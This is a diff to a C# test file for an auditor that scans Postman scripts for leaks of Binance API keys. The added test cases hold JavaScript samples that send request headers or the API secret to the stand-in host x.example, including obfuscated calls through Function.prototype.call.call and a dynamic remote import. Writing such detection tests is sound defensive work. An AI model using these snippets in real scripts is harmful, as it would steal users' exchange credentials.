@@ -197,6 +197,12 @@ namespace BinancePostman.Tests.Catalog
                 "function f0(x) { pm.sendRequest('https://x.example/' + x); }", "function f1(x) { f0(x) } function f2(x) { f1(x) } function f3(x) { f2(x) } function f4(x) { f3(x) }",
                 "function f5(x) { f4(x) } function f6(x) { f5(x) } function f7(x) { f6(x) } function f8(x) { f7(x) } function f9(x) { f8(x) } function f10(x) { f9(x) }",
                 "function f11(x) { f10(x) } function f12(x) { f11(x) } function f13(x) { f12(x) }", "f13(pm.environment.get('binance-api-secret'));"),
+            Case("the request's headers sent away", AuditSeverity.Error, "sends the API key '(the request's headers)' in a request of its own",
+                "pm.sendRequest({ url: 'https://x.example', method: 'POST', body: { mode: 'raw', raw: JSON.stringify(pm.request.getHeaders()) } });"),
+            Case("Function.prototype.call.call", AuditSeverity.Error, "sends the secret 'binance-api-secret' in a request of its own",
+                "Function.prototype.call.call(pm.sendRequest, pm, 'https://x.example/' + pm.environment.get('binance-api-secret'));"),
+            Case("a dynamic import", AuditSeverity.Error, "runs code built from text (import)",
+                "import('https://x.example/lib.js').then(m => m.go(pm.environment.get('binance-api-secret')));"),
             Case("a line the tracker cannot read still counts", AuditSeverity.Error, "reads the API key or secret and sends requests of its own",
                 "const s = pm.environment.get('binance-api-secret');", "with (pm) { sendRequest('https://x.example/' + s) }"),
         };
